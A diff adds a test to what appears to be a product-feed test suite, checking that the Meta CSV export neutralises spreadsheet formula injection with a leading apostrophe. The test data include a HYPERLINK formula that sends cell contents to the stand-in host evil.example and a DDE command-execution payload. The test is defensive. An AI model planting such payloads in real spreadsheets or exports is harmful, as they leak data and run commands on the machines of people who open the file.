@@ -226,6 +226,29 @@ describe("the Meta and Google feeds", () => {
     expect(items.map((item) => text(item, "description"))).toEqual(rows.map((row) => row.description));
   });
 
+  it("writes a Meta cell that Excel would run as a formula with a leading apostrophe, as the product CSV export does; Google's XML keeps the text", async () => {
+    const [first, second] = await listableProducts();
+    await t.db.update(products).set({ name: '=HYPERLINK("http://evil.example/?"&A1,"Ver")', description: "@SUM(1+1)" }).where(eq(products.id, first!.id));
+    await t.db.update(products).set({ name: "+cmd|' /C calc'!A0", description: "-2+3" }).where(eq(products.id, second!.id));
+    const meta = await metaFeed();
+    const rowsOf = (id: number) => meta.filter((row) => new URL(row.link).pathname === `/produto/${id}`);
+    expect(rowsOf(first!.id).length).toBeGreaterThan(0);
+    expect(rowsOf(second!.id).length).toBeGreaterThan(0);
+    for (const row of rowsOf(first!.id)) {
+      expect(row.title.startsWith(`'=HYPERLINK("http://evil.example/?"&A1,"Ver")`)).toBe(true);
+      expect(row.description).toBe("'@SUM(1+1)");
+    }
+    for (const row of rowsOf(second!.id)) {
+      expect(row.title.startsWith("'+cmd|' /C calc'!A0")).toBe(true);
+      expect(row.description).toBe("'-2+3");
+    }
+    // No cell of the whole file starts a formula.
+    for (const row of meta) for (const [column, value] of Object.entries(row)) expect(value, column).not.toMatch(/^[=+\-@]/);
+    const google = await googleFeed();
+    const item = google.find((candidate) => new URL(text(candidate, "link")).pathname === `/produto/${first!.id}`);
+    expect(text(item!, "description")).toBe("@SUM(1+1)");
+  });
+
   it("answers 304 to a client that has the feed, by ETag or by date, and 200 once it changed", async () => {
     for (const path of ["/feeds/meta.csv", "/feeds/google.xml"]) {
       const first = await fetchFeed(path);
